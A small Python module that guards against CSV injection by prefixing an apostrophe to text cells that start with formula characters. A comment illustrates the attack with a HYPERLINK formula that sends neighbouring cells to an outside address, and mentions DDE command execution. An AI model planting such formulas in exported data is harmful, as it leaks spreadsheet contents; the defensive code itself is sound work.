"""Text cells that a spreadsheet opens as text, never as a formula (CSV injection, as OWASP describes it)."""

# A cell starting with one of these is a formula to Excel or LibreOffice: « =HYPERLINK("http://…"&B3) » sends the
# sheet's neighbouring cells away when the administrator clicks, older Excel runs commands (DDE).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def inert(text: str) -> str:
    """The text, with an apostrophe before it when a spreadsheet would read it as a formula; numbers never come
    here (a negative amount must stay a number a spreadsheet adds up)."""
    return "'" + text if text.startswith(FORMULA_STARTS) else text
